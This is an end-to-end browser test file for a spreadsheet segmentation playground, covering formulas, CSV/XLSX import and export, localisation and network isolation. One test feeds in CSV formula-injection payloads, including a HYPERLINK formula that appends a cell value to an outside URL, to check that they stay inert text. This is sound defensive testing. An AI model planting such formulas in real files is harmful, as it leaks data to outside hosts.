/**
 * The playground in a real browser: it loads with no console errors and no request leaving localhost, the first
 * screen shows the sample customers with their segments, a formula typed in a cell spills the core's answer,
 * importing a CSV adds a sheet, and the workbook exports to XLSX. Then what a real file brings: text that looks like
 * a formula and IDs with leading zeros stay text through import and export, the separator of a semicolon file and of a
 * whitespace .txt is found and told, array arithmetic spills, removing the sheet on show leaves the page on its
 * neighbour, a part that fails to draw shows a retry, and the page speaks Vietnamese when the panel does.
 * Screenshots go to test/artifacts/.
 */
import ExcelJS from 'exceljs';
import { readFileSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeProblem, invoke, isDateOut, isProblem, type Lang, type OutCell } from '../../core/index.js';
import { parseAddress } from '../../core/arg-places.js';
import { withArgumentPlaces } from '../../core/catalog/invoke.js';
import { parseA1 } from '../../playground/engine/format.js';
import { generateOrderLines, ORDERS_AS_OF } from '../../playground/sample/orders.js';
import { ARTIFACTS, isLocal, openPlayground, openSession, type Session } from './harness.js';

let session: Session;

beforeAll(async () => {
  session = await openSession({ width: 1600, height: 900 });
  await openPlayground(session);
});

afterAll(async () => {
  await session?.close();
});

/** A block of computed values from the page, as JSON (errors as `{ code, message }`). */
async function values(sheet: string, col: number, row: number, height: number, width = 1): Promise<unknown[][]> {
  return session.page.evaluate(
    ({ sheet, col, row, height, width }) =>
      window.segmentkitPlayground!.workbook.valuesOf(sheet, row, col, height, width),
    { sheet, col, row, height, width },
  );
}

/** What the page shows in a block of cells (the grid's display text). */
async function shown(sheet: string, col: number, row: number, height: number, width = 1): Promise<string[][]> {
  return session.page.evaluate(
    ({ sheet, col, row, height, width }) =>
      window.segmentkitPlayground!.workbook.textsOf(sheet, row, col, height, width),
    { sheet, col, row, height, width },
  );
}

/** The core's answer cell as the playground shows it. */
function asShown(cell: OutCell, lang: Lang = 'en'): unknown {
  if (isProblem(cell)) return { code: '#VALUE!', message: describeProblem(cell, lang) };
  if (isDateOut(cell)) return cell.serial;
  return cell;
}

/** HyperFormula hands out numbers rounded to about 10 significant digits (its `precisionRounding`), as Sheets shows. */
function sameAnswers(actual: unknown[][], expected: unknown[][]): void {
  expect(actual.length).toBe(expected.length);
  actual.forEach((row, r) =>
    row.forEach((cell, c) => {
      const want = expected[r]?.[c];
      if (typeof want === 'number' && typeof cell === 'number') {
        expect(Math.abs(cell - want), `row ${r + 1} col ${c + 1}`).toBeLessThanOrEqual(
          1e-9 * Math.max(1, Math.abs(want)),
        );
      } else {
        expect(cell, `row ${r + 1} col ${c + 1}`).toEqual(want);
      }
    }),
  );
}

/** Whether each cell of a block holds a formula (a value spilled from elsewhere does not). */
async function formulas(sheet: string, col: number, row: number, height: number, width = 1): Promise<boolean[][]> {
  return session.page.evaluate(
    ({ sheet, col, row, height, width }) =>
      window.segmentkitPlayground!.workbook.formulasOf(sheet, row, col, height, width),
    { sheet, col, row, height, width },
  );
}

/** Imports a file through the Import button's file input and waits for its tab to be the active one. */
async function importFile(name: string, content: string): Promise<void> {
  const path = `${ARTIFACTS}${name}`;
  writeFileSync(path, content);
  await session.page.getByTestId('import-input').setInputFiles(path);
  const tab = session.page.getByRole('tab', { name: name.replace(/\.[^.]+$/, ''), exact: true });
  await expect.poll(() => tab.getAttribute('aria-selected')).toBe('true');
}

/** The text of the toasts on show. */
async function toasts(): Promise<string[]> {
  return session.page.locator('.fui-Toast').allTextContents();
}

/** Exports the workbook through the Export button and reads the file back with ExcelJS. */
async function exported(button = 'Export XLSX'): Promise<ExcelJS.Workbook> {
  const [download] = await Promise.all([
    session.page.waitForEvent('download'),
    session.page.getByRole('button', { name: button }).click(),
  ]);
  const path = `${ARTIFACTS}segmentkit-playground-roundtrip.xlsx`;
  await download.saveAs(path);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(readFileSync(path) as never);
  return book;
}

/** Selects a cell by typing its address in the name box, as a user would. */
async function goTo(address: string): Promise<void> {
  const nameBox = session.page.getByLabel('Name box', { exact: false });
  await nameBox.click();
  await nameBox.fill(address);
  await nameBox.press('Enter');
  await expect.poll(() => nameBox.inputValue()).toBe(address);
  // Keys go to the cell that has the focus: wait until that is the one just selected (Glide's ids count the row
  // marker column first).
  const target = parseA1(address);
  if (!target) throw new Error(`not a cell address: ${address}`);
  const id = `glide-cell-${target.col + 1}-${target.row}`;
  // The grid takes the focus once its scroll has painted: give a busy machine time for that.
  await expect.poll(() => session.page.evaluate(() => document.activeElement?.id), { timeout: 10_000 }).toBe(id);
}

/**
 * Types into the selected cell as a user does: the first key opens the cell's editor, the rest goes into it,
 * Enter commits. (The first key is pressed alone so that the editor is open before the rest arrives.)
 */
async function typeInCell(text: string): Promise<void> {
  const page = session.page;
  await page.keyboard.press(text[0] as string);
  const editor = page.locator('textarea.gdg-input');
  await editor.waitFor({ state: 'visible' });
  await expect.poll(() => editor.evaluate((el) => el === document.activeElement)).toBe(true);
  // At a person's pace: keys sent with no pause at all can overtake the editor's own state updates.
  await page.keyboard.type(text.slice(1), { delay: 15 });
  await expect.poll(() => editor.inputValue()).toBe(text);
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
  await page.keyboard.press('Enter');
  await editor.waitFor({ state: 'detached' });
}

/** Selects a cell with the name box and types into the formula bar, as a user who works from the bar would. */
async function editInFormulaBar(address: string, text: string): Promise<void> {
  const nameBox = session.page.getByLabel('Name box', { exact: false });
  await nameBox.click();
  await nameBox.fill(address);
  await nameBox.press('Enter');
  await expect.poll(() => nameBox.inputValue()).toBe(address);
  const bar = session.page.locator('.formula-input');
  await bar.click();
  await bar.fill(text);
  await bar.press('Enter');
}

describe('the playground in Chromium', () => {
  it('loads with no console errors and makes no request outside localhost', async () => {
    const outside = session.requests.filter((url) => !isLocal(url));
    console.log(
      `requests: ${session.requests.length} in all, ${outside.length} to anything other than localhost` +
        (outside.length > 0 ? `: ${outside.join(', ')}` : ''),
    );
    writeFileSync(
      `${ARTIFACTS}requests.json`,
      JSON.stringify({ all: session.requests, outsideLocalhost: outside }, null, 2) + '\n',
    );
    expect(outside).toEqual([]);
    expect(session.errors).toEqual([]);
    expect(session.requests.length).toBeGreaterThan(0);
  });

  it('shows the sample customers with their segments on the first screen', async () => {
    await session.page.screenshot({ path: `${ARTIFACTS}playground-first-screen.png` });
    const header = await shown('Customers', 0, 0, 1, 10);
    expect(header[0]).toEqual([
      'Customer ID',
      'Company',
      'Industry',
      'Region',
      'ABC',
      'BCG',
      'Tier',
      'Lifecycle',
      'RFM score',
      'RFM segment',
    ]);
    // What the grid has drawn: its accessibility table (rendered shortly after the canvas) holds the visible cells.
    const cells = session.page.locator('td[role="gridcell"]');
    await expect.poll(() => cells.allTextContents(), { timeout: 10_000 }).toContain('KH00001');
    const visible = await cells.allTextContents();
    const segments = await shown('Customers', 4, 1, 20, 6);
    for (const row of segments) {
      expect(['A', 'B', 'C']).toContain(row[0]);
      expect(['Small', 'Medium', 'Large', 'Top', 'Inactive']).toContain(row[2]);
      expect(row[3]).toMatch(/^(Prospect|Lost|At Risk|New|Evangelist|Loyal|Active)$/);
      expect(row[4] === '' || /^[1-5]{3}$/.test(row[4] ?? '')).toBe(true);
    }
    for (const label of ['A', 'Small', 'Potential Loyalist']) expect(visible).toContain(label);
    // The formula bar shows the first formula.
    await expect.poll(() => session.page.getByLabel('Formula bar').inputValue()).toBe('=ABC_CLASS(P2:P2001)');
  });

  it('shows the RFM and CLV tables beside the orders and the summaries, sheet by sheet', async () => {
    const page = session.page;
    await page.getByRole('tab', { name: 'Orders' }).click();
    await expect
      .poll(() => page.getByLabel('Formula bar').inputValue())
      .toMatch(/^=RFM_TABLE\(C2:C\d+, B2:B\d+, F2:F\d+, /);
    const lines = generateOrderLines();
    const args = [
      lines.map((l) => [l.customer]),
      lines.map((l) => [l.date]),
      lines.map((l) => [l.amount]),
      ORDERS_AS_OF,
    ];
    const ids = lines.map((l) => [l.orderId]);
    const core = (name: string, rest: unknown[]): OutCell[][] => {
      const result = invoke(name, [...args, ...rest]);
      if (!result.ok) throw result.error;
      return result.grid;
    };
    const rfm = core('RFM_TABLE', [5, '', ids])[1] ?? [];
    const rfmShown = (await shown('Orders', 7, 0, 2, 10))[1] ?? [];
    expect([rfmShown[0], rfmShown[8], rfmShown[9]]).toEqual([rfm[0], String(rfm[8]), rfm[9]]);
    const clvShown = await shown('Orders', 18, 0, 2, 10);
    expect(clvShown[0]?.slice(0, 1).concat(clvShown[0]?.slice(5, 10) ?? [])).toEqual([
      'Customer',
      'P(alive)',
      'Expected purchases',
      'Expected order value',
      'CLV',
      'CLV segment',
    ]);
    expect(clvShown[1]?.[0]).toBe(core('CLV_TABLE', [365, 0.1, ids])[1]?.[0]);
    expect(['Active', 'At risk', 'Likely lost']).toContain(clvShown[1]?.[9]);
    expect((await shown('Orders', 29, 0, 2, 2))[1]?.[0]).toBe('r');
    await page.screenshot({ path: `${ARTIFACTS}playground-orders.png` });
    await page.getByRole('tab', { name: 'Segments' }).click();
    await expect.poll(() => page.getByLabel('Formula bar').inputValue()).toMatch(/^=SEGMENT_SUMMARY\(/);
    await page.screenshot({ path: `${ARTIFACTS}playground-segments.png` });
    await page.getByRole('tab', { name: 'Customers' }).click();
    await expect.poll(() => page.getByLabel('Formula bar').inputValue()).toBe('=ABC_CLASS(P2:P2001)');
  });

  it('spills the core answer of a formula typed in a cell', async () => {
    await goTo('X2');
    await typeInCell('=ABC_CLASS(P2:P2001)');
    await expect
      .poll(async () => (await values('Customers', 23, 1, 1))[0]?.[0], { timeout: 10_000 })
      .toMatch(/^[ABC]$/);
    const revenue = await values('Customers', 15, 1, 2000);
    const expected = invoke('ABC_CLASS', [revenue]);
    expect(expected.ok).toBe(true);
    if (!expected.ok) return;
    const spilled = await values('Customers', 23, 1, 2000);
    expect(spilled).toEqual(expected.grid.map((row) => row.map((cell) => asShown(cell))));
    expect(spilled).toEqual(await values('Customers', 4, 1, 2000));
    await session.page.screenshot({ path: `${ARTIFACTS}playground-typed-formula.png` });

    // A table answer spills with its header, typed in the formula bar.
    await goTo('Z2');
    const bar = session.page.getByLabel('Formula bar');
    await bar.click();
    await bar.fill('=SEGMENT_SUMMARY(J2:J2001, P2:P2001, ');
    // While the call is open, the bar names the function and the argument being typed.
    const hint = session.page.locator('.formula-hint');
    await expect.poll(() => hint.textContent()).toContain('SEGMENT_SUMMARY(segments, values, [lang])');
    expect(await hint.locator('.hint-current').textContent()).toBe('[lang]');
    await session.page.screenshot({ path: `${ARTIFACTS}playground-function-hint.png` });
    await bar.press('End');
    await session.page.keyboard.type('"vi")');
    await bar.press('Enter');
    const segments = await values('Customers', 9, 1, 2000);
    // Problems name sheet cells, as the playground knows where the ranges are.
    const summary = withArgumentPlaces(
      'SEGMENT_SUMMARY',
      [parseAddress('J2:J2001', 'Customers'), parseAddress('P2:P2001', 'Customers')],
      () => invoke('SEGMENT_SUMMARY', [segments, revenue, 'vi']),
    );
    expect(summary.ok).toBe(true);
    if (!summary.ok) return;
    const table = await values('Customers', 25, 1, summary.grid.length, 6);
    sameAnswers(
      table,
      summary.grid.map((row) => row.map((cell) => asShown(cell, 'vi'))),
    );
    expect(table[0]?.[0]).toBe('Phân khúc');
    // Below the answer, the reserved rows stay blank.
    expect(await values('Customers', 25, 1 + summary.grid.length, 3, 6)).toEqual([
      [null, null, null, null, null, null],
      [null, null, null, null, null, null],
      [null, null, null, null, null, null],
    ]);
  });

  it('recalculates when a cell is edited', async () => {
    // Customer 1 (row 2) becomes the largest customer: its ABC class becomes A, in E2 and in the spill of X2.
    await editInFormulaBar('P2', '99000000000');
    await expect.poll(async () => (await values('Customers', 15, 1, 1))[0]?.[0]).toBe(99_000_000_000);
    expect((await values('Customers', 4, 1, 1))[0]?.[0]).toBe('A');
    expect((await values('Customers', 23, 1, 1))[0]?.[0]).toBe('A');
    expect((await values('Customers', 6, 1, 1))[0]?.[0]).toBe('Top');
  });

  it('imports a CSV file as a new sheet', async () => {
    const csv = [
      'Khách hàng,Doanh thu,Ngày mua cuối',
      'Công ty An Phát,"27.000.000 ₫",2025-11-02',
      'Công ty Bình Minh,24000000,2025-10-15',
      'Công ty Hoà Bình,18000000,2025-06-30',
      'Công ty Gia Long,16000000,2025-03-01',
      'Công ty Đại Việt,6000000,2024-12-24',
      'Công ty Kim Ngọc,5000000,2024-08-08',
      'Công ty Sơn Hà,4000000,2023-01-15',
    ].join('\n');
    const path = `${ARTIFACTS}khach-hang.csv`;
    writeFileSync(path, csv);
    const before = await session.page.getByRole('tab').allTextContents();
    await session.page.getByTestId('import-input').setInputFiles(path);
    await expect.poll(() => session.page.getByRole('tab').allTextContents()).toEqual([...before, 'khach-hang']);
    await expect
      .poll(() => session.page.getByRole('tab', { name: 'khach-hang' }).getAttribute('aria-selected'))
      .toBe('true');
    expect(await values('khach-hang', 0, 1, 2, 3)).toEqual([
      ['Công ty An Phát', 27_000_000, expect.any(Number)],
      ['Công ty Bình Minh', 24_000_000, expect.any(Number)],
    ]);
    // The imported sheet takes formulas like any other.
    await goTo('D2');
    await typeInCell('=ABC_CLASS(B2:B8)');
    await expect
      .poll(async () => (await values('khach-hang', 3, 1, 7)).flat())
      .toEqual(['A', 'A', 'A', 'B', 'B', 'C', 'C']);
    await session.page.screenshot({ path: `${ARTIFACTS}playground-imported-csv.png` });
  });

  it('exports the workbook to XLSX', async () => {
    const [download] = await Promise.all([
      session.page.waitForEvent('download'),
      session.page.getByRole('button', { name: 'Export XLSX' }).click(),
    ]);
    const path = `${ARTIFACTS}segmentkit-playground.xlsx`;
    await download.saveAs(path);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(readFileSync(path) as never);
    expect(book.worksheets.map((ws) => ws.name)).toEqual(['Customers', 'Orders', 'Segments', 'khach-hang']);
    const customers = book.getWorksheet('Customers');
    expect(customers?.getCell('A2').value).toBe('KH00001');
    expect(customers?.getCell('E2').value).toBe('A');
    expect(String(customers?.getCell('E2').note)).toContain('SEG.ABC_CLASS(P2:P2001)');
    expect(session.errors).toEqual([]);
    expect(session.requests.filter((url) => !isLocal(url))).toEqual([]);
  });
});

describe('real files, spills and failures in Chromium', () => {
  const link = (row: number): string => `=HYPERLINK("http://example.com/"&B${row}, "x")`;

  it('keeps formula-like text and leading-zero IDs as text through import and export', async () => {
    const csv = [
      'Id,Customer,Link,Amount',
      `00123,An Phát,"${link(2).replace(/"/g, '""')}",-12.5`,
      `00124,Bình Minh,"${link(3).replace(/"/g, '""')}",24000000`,
      '00125,Hoà Bình,@SUM(1+1),7',
    ].join('\r\n');
    await importFile('links.csv', csv);
    expect(await values('links', 0, 1, 3, 4)).toEqual([
      ['00123', 'An Phát', link(2), -12.5],
      ['00124', 'Bình Minh', link(3), 24_000_000],
      ['00125', 'Hoà Bình', '@SUM(1+1)', 7],
    ]);
    expect((await formulas('links', 0, 0, 4, 4)).flat()).not.toContain(true);
    expect(await shown('links', 0, 1, 1, 3)).toEqual([['00123', 'An Phát', link(2)]]);
    await expect
      .poll(toasts)
      .toContainEqual(
        expect.stringContaining('Comma-separated, 4 columns, 3 rows, kept as text for their leading zeros: Id'),
      );
    await session.page.screenshot({ path: `${ARTIFACTS}playground-import-text.png` });

    const book = await exported();
    const ws = book.getWorksheet('links');
    expect(ws?.getCell('A2').value).toBe('00123');
    expect(ws?.getCell('A2').type).toBe(ExcelJS.ValueType.String);
    for (const [address, text] of [
      ['C2', link(2)],
      ['C3', link(3)],
      ['C4', '@SUM(1+1)'],
    ] as const) {
      expect(ws?.getCell(address).value, address).toBe(text);
      expect(ws?.getCell(address).type, address).toBe(ExcelJS.ValueType.String);
      expect(ws?.getCell(address).formula, address).toBeUndefined();
    }
    expect(ws?.getCell('D2').value).toBe(-12.5);
  });

  it('finds the semicolons of a semicolon file, says so, and spills =D2:D9*F2:F9', async () => {
    const lines = ['Mã KH;Khách hàng;Ngày;Số lượng;Ghi chú;Đơn giá'];
    for (let i = 1; i <= 8; i++) lines.push(`0000${i};Khách ${i};2025-0${i}-15;${i};"a; b";${i * 1000}`);
    await importFile('orders-semi.csv', lines.join('\n'));
    await expect
      .poll(toasts)
      .toContainEqual(
        expect.stringContaining('Semicolon-separated, 6 columns, 8 rows, kept as text for their leading zeros: Mã KH'),
      );
    expect(await values('orders-semi', 0, 1, 2, 6)).toEqual([
      ['00001', 'Khách 1', expect.any(Number), 1, 'a; b', 1000],
      ['00002', 'Khách 2', expect.any(Number), 2, 'a; b', 2000],
    ]);

    await goTo('G2');
    await typeInCell('=D2:D9*F2:F9');
    await expect
      .poll(async () => (await values('orders-semi', 6, 1, 8)).flat(), { timeout: 10_000 })
      .toEqual([1000, 4000, 9000, 16000, 25000, 36000, 49000, 64000]);
    expect((await formulas('orders-semi', 6, 1, 8)).flat()).toEqual([
      true,
      false,
      false,
      false,
      false,
      false,
      false,
      false,
    ]);
    // A cell of the spill shows where its formula lives.
    await goTo('G5');
    await expect.poll(() => session.page.getByLabel('Formula bar').inputValue()).toBe('=D2:D9*F2:F9');
    expect(await session.page.locator('.spill-note').textContent()).toBe('spilled from G2');
    await session.page.screenshot({ path: `${ARTIFACTS}playground-array-arithmetic.png` });
  });

  it('splits a whitespace-separated .txt at its runs of spaces', async () => {
    const txt = [
      'CustomerID   InvoiceDate   Quantity   Price   City',
      '00017        2024-01-02    3          12.5    "Hà Nội"',
      '00042        2024-01-03    1          7       Huế',
      '00108        2024-02-11    12         120     "Hồ Chí Minh"',
    ].join('\n');
    await importFile('invoices.txt', txt);
    await expect
      .poll(toasts)
      .toContainEqual(
        expect.stringContaining(
          'Separated by spaces, 5 columns, 3 rows, kept as text for their leading zeros: CustomerID',
        ),
      );
    expect(await values('invoices', 0, 0, 4, 5)).toEqual([
      ['CustomerID', 'InvoiceDate', 'Quantity', 'Price', 'City'],
      ['00017', expect.any(Number), 3, 12.5, 'Hà Nội'],
      ['00042', expect.any(Number), 1, 7, 'Huế'],
      ['00108', expect.any(Number), 12, 120, 'Hồ Chí Minh'],
    ]);
  });

  it('says what a one-column file holds and why an empty file cannot be opened', async () => {
    await importFile('names.csv', 'Nguyễn Văn An\nTrần Thị Bình\nLê Văn Cường\n');
    await expect.poll(toasts).toContainEqual(expect.stringContaining('names.csv opened as one column'));
    const path = `${ARTIFACTS}empty.csv`;
    writeFileSync(path, '');
    const before = await session.page.getByRole('tab').allTextContents();
    await session.page.getByTestId('import-input').setInputFiles(path);
    await expect.poll(toasts).toContainEqual(expect.stringContaining('empty.csv is empty: it holds no rows to open.'));
    expect(await session.page.getByRole('tab').allTextContents()).toEqual(before);
  });

  it('moves to the neighbouring tab when the sheet on show is removed, keeping the rest', async () => {
    const page = session.page;
    const summary = await page.evaluate(() =>
      window.segmentkitPlayground!.workbook.addSheet({ name: 'Segment summary', cells: [['Segment', 'Customers']] }),
    );
    await page.getByRole('tab', { name: summary }).click();
    await expect.poll(() => page.getByRole('tab', { name: summary }).getAttribute('aria-selected')).toBe('true');
    const before = (await page.getByRole('tab').allTextContents()).filter((name) => name !== summary);
    // What the panel's undo does: the workbook removes the summary sheet.
    await page.evaluate((name) => window.segmentkitPlayground!.workbook.removeSheet(name), summary);
    expect(await page.getByRole('tab').allTextContents()).toEqual(before);
    const neighbour = before[before.length - 1] as string;
    await expect.poll(() => page.getByRole('tab', { name: neighbour }).getAttribute('aria-selected')).toBe('true');
    await page.locator('canvas').first().waitFor({ state: 'visible' });
    expect(await values('orders-semi', 6, 4, 1)).toEqual([[16000]]);
    expect(await values('Customers', 15, 1, 1)).toEqual([[99_000_000_000]]);
    expect(session.errors).toEqual([]);
  });

  it('shows a retry where the grid fails to draw, and the sheets survive it', async () => {
    const page = session.page;
    const tabs = await page.getByRole('tab').allTextContents();
    const errorsBefore = session.errors.length;
    await page.evaluate(() => {
      const workbook = window.segmentkitPlayground!.workbook;
      const original = workbook.hasHeaderRow.bind(workbook);
      (window as unknown as { restoreGrid: () => void }).restoreGrid = () => (workbook.hasHeaderRow = original);
      workbook.hasHeaderRow = () => {
        throw new Error('drawing failed on purpose');
      };
      workbook.setInput(workbook.sheetId('Customers'), 2, 30, 'redraw');
    });
    const alert = page.getByRole('alert').filter({ hasText: 'This sheet could not be drawn' });
    await alert.waitFor();
    expect(await alert.textContent()).toContain('drawing failed on purpose');
    await page.screenshot({ path: `${ARTIFACTS}playground-grid-error.png` });
    expect(await page.getByRole('tab').allTextContents()).toEqual(tabs);
    await page.evaluate(() => (window as unknown as { restoreGrid: () => void }).restoreGrid());
    await alert.getByRole('button', { name: 'Try again' }).click();
    await alert.waitFor({ state: 'detached' });
    await page.locator('canvas').first().waitFor({ state: 'visible' });
    expect(await values('links', 0, 1, 1)).toEqual([['00123']]);
    // The failure was logged (React reports what a boundary caught); nothing else was.
    const logged = session.errors.splice(errorsBefore);
    expect(logged.length).toBeGreaterThan(0);
    for (const line of logged) expect(line).toContain('drawing failed on purpose');
  });

  it('speaks Vietnamese when the panel does: buttons, status and import messages', async () => {
    const page = session.page;
    await page.getByTestId('segmentkit-panel').getByTestId('language').selectOption('vi');
    await expect.poll(() => page.getByRole('button', { name: 'Xuất XLSX' }).count()).toBe(1);
    expect(await page.getByRole('button', { name: 'Nhập CSV / XLSX' }).count()).toBe(1);
    expect(await page.locator('html').getAttribute('lang')).toBe('vi');
    expect(await page.getByLabel('Thanh công thức').count()).toBe(1);
    await importFile('vi-orders.csv', 'Mã KH;Doanh thu\n00001;1500\n00002;2500\n');
    await expect
      .poll(toasts)
      .toContainEqual(
        expect.stringContaining(
          'Phân tách bằng dấu chấm phẩy, 2 cột, 2 dòng, giữ dạng văn bản để không mất số 0 ở đầu: Mã KH',
        ),
      );
    expect(await page.locator('.status').textContent()).toBe('3 dòng × 2 cột');
    await page.screenshot({ path: `${ARTIFACTS}playground-vietnamese.png` });
    await page.getByTestId('segmentkit-panel').getByTestId('language').selectOption('en');
    await expect.poll(() => page.getByRole('button', { name: 'Export XLSX' }).count()).toBe(1);
    expect(session.errors).toEqual([]);
    expect(session.requests.filter((url) => !isLocal(url))).toEqual([]);
  });
});
